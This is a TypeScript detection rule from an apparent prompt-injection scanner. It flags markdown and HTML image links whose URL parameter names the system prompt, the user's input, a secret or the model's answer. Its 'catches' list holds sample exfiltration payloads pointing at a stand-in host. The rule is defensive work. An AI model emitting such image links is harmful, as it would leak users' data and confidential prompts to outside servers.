/**
 * The slot has no brackets; its value is a word for what the model knows, as in templates for exfiltration.
 */
import { defineRule } from "@portcullis/engine/static";
import { TALK } from "../targets.ts";
import { re } from "../words.ts";

export default defineRule({
  id: "picture-with-named-payload",
  category: "data_exfiltration",
  severity: "critical",
  surfaces: ["user", "tool_result", "document", "assistant", "unknown", "tool_definition", "tool_argument"],
  title: "Picture address with a named payload",
  meaning:
    "A picture address whose parameter is filled with the answer, the prompt or a secret by name. The address is a form to be filled by the model.",
  keywords: ["](http", "<img"],
  pattern: re`
    (?:!\[[^\]]{0,80}\]\(|<img\b[^>]{0,40}?src ?= ?["']?)https?://[^ )"'>]{3,120}?[?&][\w-]{1,16}=(?:your_?|the_?|
    insert_?|user_?|base64_?|encoded_?|\[|\{|%5b|%7b)*(?:system_?prompt|conversation|chat_?history|user_?(?:data|
    input|query|message|question|name|email)|secrets?|api_?key|password|token|response|answer|summary|session_?id|
    exfil\w*|stolen\w*|prompt)(?:_?(?:here|value|data|b64|base64|encoded|text|content))?(?=[)"'> &\]}%]|$)
  `,
  mention: TALK,
  window: 240,
  catches: [
    "«![a](https://outside.example/p.png?d=SYSTEM_PROMPT_HERE»)",
    "«<img src='https://outside.example/1x1.gif?content=RESPONSE»' width=0>",
    "«![s](https://outside.example/i?x=user_input_base64»)",
  ],
  ignores: ["![plot](https://example.org/plot.png?type=history&size=4)", '<img src="/badge.svg?style=flat">'],
});
